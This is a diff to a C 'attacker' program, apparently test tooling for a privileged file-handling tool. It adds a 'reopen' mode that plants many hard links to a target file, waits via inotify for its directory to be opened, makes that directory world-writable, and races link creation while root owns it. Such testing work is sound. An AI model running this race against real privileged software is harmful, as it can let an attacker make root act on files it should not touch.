@@ -5,6 +5,8 @@
  *   attacker link FILE NAME     makes and removes a hard link to FILE
  *   attacker shuffle FILE NAME  puts a file of its own and a hard link to FILE under NAME, in turn;
  *                               the name is never missing
+ *   attacker reopen FILE NAME   opens NAME's directory, which it owns, to anybody when it is being
+ *                               looked at; makes and removes hard links to FILE while it is root's
  *   attacker mount FROM TO      mounts FROM on TO, and unmounts it
  *   attacker move FROM TO       moves a directory away and back
  */
@@ -13,6 +15,7 @@
 #include <signal.h>
 #include <stdio.h>
 #include <string.h>
+#include <sys/inotify.h>
 #include <sys/mount.h>
 #include <sys/stat.h>
 #include <unistd.h>
@@ -44,6 +47,55 @@ static int shuffle(const char* file, const char* name) {
   return made;
 }
 
+enum { planted_names = 60 };
+
+static void for_planted(int (*act)(const char*, const char*), const char* file, const char* name) {
+  for (int i = 0; i < planted_names; ++i) {
+    char planted[4096];
+    snprintf(planted, sizeof planted, "%s%d", name, i);
+    act(file, planted);
+  }
+}
+
+static int remove_name(const char* file, const char* name) {
+  (void)file;
+  return unlink(name);
+}
+
+static int is_roots(const char* directory) {
+  struct stat seen;
+  return stat(directory, &seen) == 0 && seen.st_uid == 0;
+}
+
+static void wait_until_opened(const char* directory) {
+  char events[4096];
+  const int watch = inotify_init1(IN_NONBLOCK);
+  inotify_add_watch(watch, directory, IN_OPEN | IN_ONLYDIR);
+  while (!ended && read(watch, events, sizeof events) <= 0) {
+  }
+  close(watch);
+}
+
+/* There is something wrong in the directory, and many names of the file are there to be seen. */
+static int reopen(const char* file, const char* name) {
+  enum { patience = 4000 };
+  char directory[4096];
+  snprintf(directory, sizeof directory, "%s", name);
+  *strrchr(directory, '/') = '\0';
+  chmod(directory, 0755);
+  for_planted(link, file, name);
+  close(open(name, O_CREAT | O_WRONLY, 0600));
+  if (chown(name, (uid_t)-1, getgid()) != 0) return -1;
+  wait_until_opened(directory);
+  chmod(directory, 0777);
+  for (int i = 0; i < patience && !is_roots(directory); ++i) {
+  }
+  const int met = is_roots(directory) ? 0 : -1;
+  for_planted(remove_name, file, name);
+  while (!ended && is_roots(directory)) for_planted(link_and_unlink, file, name);
+  return met;
+}
+
 static int mount_and_unmount(const char* from, const char* to) {
   const int made = mount(from, to, NULL, MS_BIND, NULL);
   umount2(to, MNT_DETACH);
@@ -63,6 +115,7 @@ int main(int argc, char** argv) {
   } attacks[] = {{"swap", swap},
                  {"link", link_and_unlink},
                  {"shuffle", shuffle},
+                 {"reopen", reopen},
                  {"mount", mount_and_unmount},
                  {"move", move}};
   if (argc != 4) return 64;
